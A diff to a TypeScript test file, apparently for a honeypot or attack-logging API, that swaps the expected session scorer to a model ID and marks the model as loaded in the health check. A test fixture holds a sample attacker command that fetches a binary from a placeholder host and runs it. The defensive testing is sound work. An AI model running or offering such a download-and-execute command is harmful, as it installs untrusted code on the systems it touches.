@@ -139,7 +139,7 @@ describe.each(inject('postgresServers'))('the API on $version', (server) => {
         credentials: [{ username: 'root', success: true }],
         commands: [{ command: 'wget http://192.0.2.1/100%_x; chmod +x x; ./x' }],
         files: [{ file_sha256: 'a'.repeat(64) }],
-        score: { scorer: 'rules-1' },
+        score: { scorer: expect.stringMatching(/^model-[0-9a-f]{12}$/) },
       })
       expect(body.techniques.map((technique: { id: string }) => technique.id)).toContain('T1105')
       expect(body.events.map((event: Event) => event.action)).toEqual(
@@ -213,7 +213,7 @@ describe.each(inject('postgresServers'))('the API on $version', (server) => {
     const { body, status } = await get('/health', '')
     expect(status).toBe(200)
     expect(Health.safeParse(body).error).toBeUndefined()
-    expect(body).toMatchObject({ status: 'ok', database: true, alert_queue_depth: 0, model_loaded: false })
+    expect(body).toMatchObject({ status: 'ok', database: true, alert_queue_depth: 0, model_loaded: true })
     expect((await get('/health/live', '')).status).toBe(200)
     expect((await get('/health/ready', '')).status).toBe(200)
   })
